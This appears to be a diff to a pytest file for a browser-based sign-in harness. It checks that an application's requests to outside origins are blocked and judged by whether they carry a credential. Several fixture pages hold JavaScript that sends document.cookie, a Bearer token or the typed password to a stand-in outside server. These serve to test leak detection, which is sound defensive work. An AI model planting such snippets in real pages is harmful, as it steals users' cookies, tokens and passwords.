@@ -1,8 +1,10 @@
-"""The application side's browser: once the test user's password is typed into the stand-in's
-login page, the browser context reaches only the stand-in and the application's own origins. An
-application page that sends a body or a secret elsewhere ends the sign-in, naming the origin and the
-application file's keys; one that only asks for an image, a font or a script elsewhere (Auth.js's
-sign-in error page loads its logo from https://authjs.dev) is aborted quietly, and the sign-in goes on."""
+"""The application side's browser: a request of the application to an origin that is neither the
+stand-in's nor the application's own never leaves, and it is judged on what it carried, not on where it
+went: one that carries no credential (an image, a font or a script from a CDN, as Auth.js's sign-in
+error page loads its logo from https://authjs.dev; an analytics beacon with a body) is aborted quietly,
+listed, and the sign-in goes on; one that carries a token is kept whole for APPC-32 (appside/steps/
+leaks.py), and the sign-in goes on too; only the test user's password, which no application holds,
+ends the sign-in, naming the origin and the application file's keys."""
 
 import os
 from types import SimpleNamespace
@@ -18,25 +20,47 @@ pytestmark = pytest.mark.skipif(
 )
 LOGIN = b"""<!doctype html><form method="post" action="/account/login"><input id="username" name="username">
 <input id="password" name="password" type="password"><button id="sign-in" type="submit">Sign in</button></form>"""
+PASSWORD = "pw-7Q!x-long"
+TOKEN = "at-3f9c1d2e8b7a6f5e4d3c2b1a"  # what the page holds as its access token
 
 
-@pytest.mark.parametrize(
-    "elsewhere_sent", ["nothing", "an image, a font and a script", "a body"], ids=["own", "cdn", "body"]
-)
-def test_after_the_password_is_typed_the_application_side_browser_reaches_only_allowed_origins(elsewhere_sent):
+def _sends(elsewhere: str, script: str) -> str:
+    """A page that sends, then says it signed in: the request is made before the sign-in is judged."""
+    return f'<script>{script.replace("ELSEWHERE", elsewhere)}; document.body.append("signed in")</script>'
+
+
+PAGES = {
+    "nothing": '<script>document.body.append("signed in")</script>',
+    "an image, a font and a script": '<img src="ELSEWHERE/img/providers/visma.svg"><script src="ELSEWHERE/lib.js">'
+    '</script><style>@font-face {font-family: f; src: url(ELSEWHERE/f.woff)}</style><p style="font-family: f">.</p>'
+    "<p>signed in</p>",
+    # react-oidc-context's SPA of an outside partner: NOT CONFORMANT for an analytics beacon carrying nothing secret
+    "a beacon and a body": _sends(
+        "ELSEWHERE",
+        'navigator.sendBeacon("ELSEWHERE/collect", JSON.stringify({event: "invoices_viewed", status: 200})); '
+        'fetch("ELSEWHERE/form", {method: "POST", body: "d=" + document.cookie, mode: "no-cors"}).catch(() => {})',
+    ),
+    "a token in a header": _sends(
+        "ELSEWHERE",
+        f'fetch("ELSEWHERE/v1/sync", {{method: "POST", headers: {{Authorization: "Bearer {TOKEN}"}}}})'
+        ".catch(() => {})",
+    ),
+    # once the signed-in page shows, as a page sends a beacon after its API call: its sign-in's too
+    "a token after the sign-in was judged": '<script>document.body.append("signed in"); setTimeout(() => fetch('
+    f'"ELSEWHERE/v1/sync", {{method: "POST", headers: {{Authorization: "Bearer {TOKEN}"}}}}).catch(() => {{}}), 300)'
+    "</script>",
+    "the password": _sends("ELSEWHERE", f'navigator.sendBeacon("ELSEWHERE/collect", "p={PASSWORD}")'),
+}
+
+
+@pytest.mark.parametrize("elsewhere_sent", list(PAGES), ids=["own", "cdn", "beacon", "token", "late-token", "password"])
+def test_what_the_application_sends_elsewhere_never_leaves_and_is_judged_on_what_it_carried(elsewhere_sent):
     from appside.browser_driver import BrowserDriver
 
     elsewhere = HostileServer({})
     stand_in = HostileServer({})
     app = HostileServer({})
-    page = {
-        "nothing": "",
-        "an image, a font and a script": f'<img src="{elsewhere.url}/img/providers/visma.svg"><script '
-        f'src="{elsewhere.url}/lib.js"></script><style>@font-face {{font-family: f; src: url({elsewhere.url}/f.woff)}}'
-        '</style><p style="font-family: f">.</p>',
-        "a body": f'<script>fetch("{elsewhere.url}/beacon", {{method: "POST", body: "d=" + document.cookie, '
-        'mode: "no-cors"})</script>',
-    }[elsewhere_sent]
+    page = PAGES[elsewhere_sent].replace("ELSEWHERE", elsewhere.url)
     stand_in.routes.update(
         {
             "/account/login": lambda body: (
@@ -49,20 +73,22 @@ def test_after_the_password_is_typed_the_application_side_browser_reaches_only_a
     app.routes.update(
         {
             "/": Answer(302, {"Location": stand_in.url + "/account/login"}),
-            "/callback": Answer(200, {"Content-Type": "text/html"}, f"<p>signed in</p>{page}".encode()),
+            "/callback": Answer(200, {"Content-Type": "text/html"}, f"<!doctype html><body>{page}".encode()),
         }
     )
     application = browser_driven_spa(app.url)
-    driver = BrowserDriver(application, stand_in.url, SimpleNamespace(username="test.user", password="pw-7Q!x"))
+    driver = BrowserDriver(application, stand_in.url, SimpleNamespace(username="test.user", password=PASSWORD))
     try:
         session = driver.session()
-        if elsewhere_sent == "a body":
+        if elsewhere_sent == "the password":
             with pytest.raises(UntrustedEndpoint, match=elsewhere.url.split("//")[1]) as refused:
                 session.sign_in()
             # what to do names the application file's keys, not an environment's
             assert "drive.sign_in_url" in str(refused.value) and "trusted_origins" not in str(refused.value)
         else:
-            assert session.sign_in().finished
+            sign_in = session.sign_in()
+            assert sign_in.finished
+            session.page.wait_for_timeout(1000)  # the page goes on after its sign-in was judged
         session.close()
     finally:
         driver.close()
@@ -70,6 +96,13 @@ def test_after_the_password_is_typed_the_application_side_browser_reaches_only_a
             server.close()
     assert elsewhere.requests == []
     assert [p for m, p, _, _ in stand_in.requests if m == "POST"] == ["/account/login"]
+    if elsewhere_sent == "a beacon and a body":
+        sent = {(s.method, s.url.removeprefix(elsewhere.url)): s for s in sign_in.sent_elsewhere}
+        assert '"invoices_viewed"' in sent["POST", "/collect"].body and ("POST", "/form") in sent
+        assert f"POST {elsewhere.url}/collect" in sign_in.elsewhere  # what the sign-in says it refused
+    if elsewhere_sent in ("a token in a header", "a token after the sign-in was judged"):  # kept whole, for APPC-32
+        (sync,) = [s for s in sign_in.sent_elsewhere if s.url.endswith("/v1/sync")]
+        assert ("its authorization header", f"Bearer {TOKEN}") in sync.parts()
 
 
 def test_a_refusal_of_the_fence_is_its_own_cause_not_blocked_by_a_rule_that_failed_too():
